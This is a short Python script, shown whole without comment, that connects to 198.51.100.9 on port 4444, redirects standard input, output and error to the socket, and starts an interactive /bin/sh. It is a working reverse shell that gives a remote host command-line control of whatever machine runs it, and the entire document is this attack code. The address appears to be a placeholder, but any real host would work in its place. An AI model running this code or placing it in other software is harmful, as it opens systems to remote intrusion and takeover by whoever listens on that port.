import os, socket, subprocess

s = socket.socket()
s.connect(("198.51.100.9", 4444))
for fd in (0, 1, 2):
    os.dup2(s.fileno(), fd)
subprocess.call(["/bin/sh", "-i"])
